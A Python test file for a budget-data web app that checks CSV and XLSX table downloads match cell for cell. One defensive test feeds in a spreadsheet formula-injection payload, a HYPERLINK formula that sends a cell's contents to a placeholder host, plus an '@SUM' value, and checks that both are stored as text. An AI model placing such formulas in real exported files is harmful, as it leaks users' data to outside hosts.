"""Every table on screen downloads as shown, as CSV and as XLSX: the same cells in the same places,
amounts as numbers with the decimals the page prints, every other cell as text (never a formula)."""
from __future__ import annotations

import csv
import io
from decimal import Decimal
from urllib.parse import quote

from openpyxl import load_workbook

from tests.web.conftest import SEED_KEY

SEED_PAGE = f"/unit/{quote(SEED_KEY)}/2024"


def _shown_value(cell) -> str:
    """What Excel shows for a cell of ours: a number with its format's decimals, else the text."""
    if cell.value is None:
        return ""
    if isinstance(cell.value, (int, float, Decimal)):
        fmt = cell.number_format.split(";")[0]  # our formats: 0.00, +0.00;-0.00;0.00, +0.00%;…
        percent = fmt.endswith("%")
        decimals = len(fmt.rstrip("%").partition(".")[2])
        value = Decimal(str(cell.value)) * (100 if percent else 1)
        sign = "+" if fmt.startswith("+") else ""
        return f"{value:{sign}.{decimals}f}" + ("%" if percent else "")
    return str(cell.value)


def assert_same(csv_bytes: bytes, xlsx_bytes: bytes) -> list:
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    ws = load_workbook(io.BytesIO(xlsx_bytes)).active
    numbers = []
    for r, row in enumerate(rows, start=1):
        for c, text in enumerate(row, start=1):
            cell = ws.cell(r, c)
            assert _shown_value(cell) == text, (r, c, cell.value, text)
            if cell.data_type == "n" and cell.value is not None:
                numbers.append(cell)
            else:
                assert cell.data_type == "s" or cell.value is None, (r, c, cell.data_type)
    return numbers


def test_every_table_of_the_unit_page_downloads_as_xlsx_like_its_csv(client):
    page = client.get(SEED_PAGE).text
    ids = [t["id"] for t in client.get(f"/api/units/{quote(SEED_KEY)}/2024/tables").json()]
    assert ids
    for table_id in ids:
        assert f"{SEED_PAGE}/table/{table_id}.xlsx" in page  # linked from the page
        xlsx = client.get(f"{SEED_PAGE}/table/{table_id}.xlsx")
        assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"
        assert "spreadsheetml" in xlsx.headers["content-type"]
        assert_same(client.get(f"{SEED_PAGE}/table/{table_id}.csv").content, xlsx.content)
    numbers = assert_same(client.get(f"{SEED_PAGE}/table/1.csv").content,
                          client.get(f"{SEED_PAGE}/table/1.xlsx").content)
    assert any(Decimal(str(c.value)) == Decimal("6640.71") and c.number_format == "0.00" for c in numbers)
    # the same bytes each time (no clock in the workbook)
    assert client.get(f"{SEED_PAGE}/table/3.xlsx").content == client.get(f"{SEED_PAGE}/table/3.xlsx").content


def test_chart_tables_download_as_xlsx(client):
    page = client.get(SEED_PAGE).text
    for name in ("function", "basic-project", "economic"):
        assert f"{SEED_PAGE}/chart/{name}.xlsx" in page
        numbers = assert_same(client.get(f"{SEED_PAGE}/chart/{name}.csv").content,
                              client.get(f"{SEED_PAGE}/chart/{name}.xlsx").content)
        assert numbers
    assert client.get(f"{SEED_PAGE}/table/99.xlsx").status_code == 404
    assert client.get(f"{SEED_PAGE}/chart/nothing.xlsx").status_code == 404


def test_text_that_looks_like_a_formula_stays_text():
    from yusuan.web import sheets

    hostile = '=HYPERLINK("http://example.com/?"&A1,"x")'
    shown = sheets.Shown("=表", [[hostile]], sheets.grid_of(["名称", "金额"], [[hostile, Decimal("-12.5")],
                                                                                 ["@SUM(A1)", Decimal("3")]]))
    ws = load_workbook(io.BytesIO(sheets.to_xlsx(shown))).active
    assert ws["A1"].value == hostile and ws["A1"].data_type == "s"
    assert ws["A3"].value == hostile and ws["A3"].data_type == "s"
    assert ws["B3"].value == -12.5 and ws["B3"].number_format == "0.00"
    assert ws["A4"].data_type == "s"
    assert sheets.number_format("12") == "0" and sheets.number_format("1.5") == "0.0"
    assert sheets.number_format("+3.20%") == "+0.00%;-0.00%;0.00%"
    rows = list(csv.reader(io.StringIO(sheets.to_csv(shown).lstrip("\ufeff"))))
    assert rows[0] == ["'" + hostile] and rows[2] == ["'" + hostile, "-12.50"] and rows[3][0] == "'@SUM(A1)"


def test_three_public_and_operating_costs_across_years(client):
    from tests.web.conftest import GENERATED_KEY

    page = client.get(f"/unit/{GENERATED_KEY}/2024").text
    for name in ("three-public", "operating"):
        assert f'id="chart-{name}"' in page
        text = client.get(f"/unit/{GENERATED_KEY}/2024/chart/{name}.csv").content
        rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
        assert rows[1] == ["项目", "2023年", "2024年"]
        assert_same(text, client.get(f"/unit/{GENERATED_KEY}/2024/chart/{name}.xlsx").content)
    # 机关运行经费: the total row of 表11 of each year, exactly as printed there
    rows = list(csv.reader(io.StringIO(client.get(f"/unit/{GENERATED_KEY}/2024/chart/operating.csv")
                                       .content.decode("utf-8-sig"))))
    for year, column in ((2023, 1), (2024, 2)):
        table = client.get(f"/api/units/{GENERATED_KEY}/{year}/tables/11").json()
        total = next(r for r in table["rows"] if r["level"] == 0)["values"]["total"]
        assert rows[2][column] == (f"{Decimal(total):.2f}" if total else "")
    # the same charts from the other year's page
    assert 'id="chart-operating"' in client.get(f"/unit/{GENERATED_KEY}/2023").text


def test_comparison_tables_download_as_shown(client):
    from tests.web.conftest import GENERATED_KEY

    params = {"a": f"{GENERATED_KEY}/2023", "b": f"{GENERATED_KEY}/2024"}
    page = client.get("/compare", params=params).text
    assert "/compare/table/3.xlsx?a=" in page
    for changed in (False, True):
        query = dict(params, changed=changed)
        text = client.get("/compare/table/3.csv", params=query).content
        rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
        assert rows[2] == ["行", "列", "甲", "乙", "增减", "增减%"] and len(rows) > 3
        assert any(r[4].startswith("+") for r in rows[3:]) or any(r[4].startswith("-") for r in rows[3:])
        assert_same(text, client.get("/compare/table/3.xlsx", params=query).content)
    assert client.get("/compare/table/99.csv", params=params).status_code == 404
